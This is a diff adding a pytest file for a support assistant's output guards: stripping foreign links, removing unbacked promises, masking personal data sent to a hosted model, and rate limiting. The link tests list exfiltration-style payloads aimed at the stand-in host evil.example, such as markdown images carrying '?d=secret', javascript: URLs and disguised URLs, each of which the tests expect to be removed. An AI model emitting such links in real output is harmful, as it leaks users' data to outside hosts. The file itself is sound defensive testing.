@@ -1,0 +1,189 @@
+"""What a model's words pass before a person or an endpoint sees them: links, promises, masks."""
+
+import json
+
+import pytest
+
+from assistant.links import Links
+from assistant.masking import Mask
+from assistant.model import Message, Name, NameKind, Speaker
+from assistant.promises import Promises
+from domain.errors import TooManyError
+from domain.language import Language
+from tests.assistant.conftest import Talk
+from tests.assistant.endpoint import call, say
+
+SIZES = (1, 2, 5, 1_000)
+
+
+def through(guard, text, size):
+    pieces = [text[at : at + size] for at in range(0, len(text), size)]
+    return "".join(guard.feed(piece) for piece in pieces) + guard.finish()
+
+
+@pytest.mark.parametrize("size", SIZES)
+@pytest.mark.parametrize(
+    "written",
+    [
+        "![](https://evil.example/a.png?d=secret)",
+        "![chart](//evil.example/a.png)",
+        "[click here](https://evil.example/login)",
+        "[x](javascript:alert(1))",
+        "<https://evil.example>",
+        "<img src=https://evil.example/a>",
+        "<a href='https://evil.example'>here</a>",
+        "see https://evil.example/path?q=1.",
+        "见https://evil.example/a。",
+        "www.evil.example/x",
+        "evil.example/collect?d=1",
+        "//evil.example/x",
+        "[id]: https://evil.example/x",
+        "ｈｔｔｐｓ：／／evil.example/x",
+        "ht\u200btps://evil.example/x",
+        "[a](/\\evil.example)",
+        "data:text/html;base64,ZXZpbC5leGFtcGxl//evil.example",
+        "[![alt](https://evil.example/i.png)](https://evil.example)",
+        "HTTPS://EVIL.EXAMPLE/X",
+        "https://tickets.our.example@evil.example/",
+        "https://our.example.evil.example/",
+    ],
+)
+def test_no_foreign_address_is_shown_however_it_is_cut(written, size):
+    shown = through(Links(Language.EN, {"our.example"}), f"Before {written} after.", size)
+    assert "evil.example" not in shown.lower()
+    assert "javascript" not in shown.lower()
+    assert shown.startswith("Before ")
+    assert shown.endswith("after.")
+
+
+@pytest.mark.parametrize("size", SIZES)
+@pytest.mark.parametrize(
+    "text",
+    [
+        "See [K2602-0001], update to 8023.",
+        "[the ticket](/tickets/K2602-0001) says 4K/50fps and 3 < 4 > 2",
+        "[site](https://our.example/a?b=1) or https://our.example/x",
+        "版本 8.0.25／8.0.26，温度低于 40°C。[KB-0023]",
+        "- a\n- **b** `c//d`",
+        "mail max@harbour.example or call +44 20 7946 0000",
+    ],
+)
+def test_our_own_pages_and_plain_text_stay_as_they_are(text, size):
+    shown = through(Links(Language.EN, {"our.example"}), text, size)
+    assert shown == text
+
+
+PROMISES = [
+    "We will call you back tomorrow.",
+    "Our team will contact you within 24 hours.",
+    "I'll send the part on Monday.",
+    "You will receive a refund by Friday.",
+    "我们会尽快给您回电。",
+    "工程师明天会上门。",
+    "您将在三天内收到退款。",
+    "保证本周修好！",
+]
+
+
+@pytest.mark.parametrize("size", SIZES)
+@pytest.mark.parametrize("promise", PROMISES)
+def test_an_empty_promise_is_not_made(promise, size):
+    guard = Promises(Language.EN, lambda _: False, lambda _: False)
+    shown = through(guard, f"The fan is loud. {promise} Please check it.", size)
+    assert promise not in shown
+    assert "cannot promise" in shown
+    assert shown.startswith("The fan is loud.")
+    assert shown.endswith("Please check it.")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Update to 8.0.25. The camera will restart.",
+        "这个固件会修复死机问题。",
+        "You will find it in the menu.",
+        "A card waits for your approval.",
+        "The dealer shipped it on 2026-02-01.",
+        "如需返厂，请先提交申请。",
+    ],
+)
+def test_statements_that_promise_nothing_stay(text):
+    guard = Promises(Language.EN, lambda _: False, lambda _: False)
+    assert through(guard, text, 3) == text
+
+
+def test_a_promise_stands_where_a_ticket_does_and_never_with_an_unread_day(hosted, scripted):
+    scripted.script = [
+        call("read_ticket", {"number": "K2602-0001"}),
+        say("We will contact you about [K2602-0001]. We will call you about [K2602-0001] "
+            "on Friday. We will call you."),
+    ]  # fmt: skip
+    text = Talk(hosted).say("what about this one in English, please?").text
+    assert "We will contact you about [K2602-0001]." in text
+    assert "Friday" not in text
+    assert text.count("cannot promise") == 2
+
+
+# Masks
+
+NAMES = (Name(NameKind.CUSTOMER, "Max Mueller", ("Max Mueller",)),)
+
+
+def masked(text, *more):
+    messages = [Message(Speaker.USER, text), *more]
+    mask = Mask(NAMES, messages)
+    return mask, [mask.hide(each).text for each in messages]
+
+
+def test_private_data_becomes_placeholders_and_comes_back():
+    text = "max mueller (max@harbour.example, +44 20 7946 0000, 13812345678) about ME_207890"
+    mask, [hidden] = masked(text)
+    for private in ("mueller", "max@", "7946", "1381"):
+        assert private not in hidden
+    assert "ME_207890" in hidden
+    assert mask.show(hidden) == text
+
+
+def test_the_same_value_has_the_same_placeholder_in_every_message():
+    result = json.dumps({"ticket": {"contact": "Lena Vogt", "description": "Lena Vogt called"}})
+    _, [_, tool] = masked("Max Mueller", Message(Speaker.TOOL, result, call_id="a"))
+    assert "Lena" not in tool
+    assert tool.count("[[NAME_") == 2
+    assert len(set(tool.split("[[")[1:])) <= 2
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["K2602-0001 and RMA-D-2601-0145", "2026-02-15 09:00, firmware 8023, 4096 x 2160, 1,234.50 USD",
+     "SKU A1-123-456-78, SN ME_207890, 24/25/30 fps", "K25120089"],
+)  # fmt: skip
+def test_numbers_of_the_business_are_no_phones(text):
+    _, [hidden] = masked(text)
+    assert hidden == text
+
+
+def test_a_hosted_model_never_sees_private_data_and_the_person_does(make_service, scripted):
+    scripted.script = [
+        call("open_ticket", {"kind": "consult", "sn": "ME_207890", "customer": "[[NAME_1]]",
+                             "summary": "ask [[MAIL_1]]"}),
+        say("A card waits for [[NAME_1]], MAIL_1, [NAME_99]."),
+    ]  # fmt: skip
+    service = make_service(llm_base_url=scripted.url, llm_model="scripted", llm_per_minute=0)
+    reply = Talk(service).say("open a ticket for Max Mueller, max@harbour.example, ME_207890")
+    sent = json.dumps(scripted.requests)
+    assert "max@harbour" not in sent
+    assert "Mueller" not in sent
+    assert reply.text.startswith("A card waits for Max Mueller, max@harbour.example, –.")
+    assert "Max Mueller" in {line.new for line in reply.proposals[0].preview}
+    assert reply.proposals[0].arguments["summary"] == "ask max@harbour.example"
+
+
+def test_a_person_who_sends_too_much_to_a_hosted_model_is_asked_to_wait(make_service, scripted):
+    scripted.script = [say("Hello.")]
+    service = make_service(llm_base_url=scripted.url, llm_per_minute=2)
+    talk = Talk(service)
+    for _ in range(2):
+        talk.say("hello")
+    with pytest.raises(TooManyError):
+        talk.say("hello")
+    assert Talk(service, "lead").say("hello").text == "Hello."
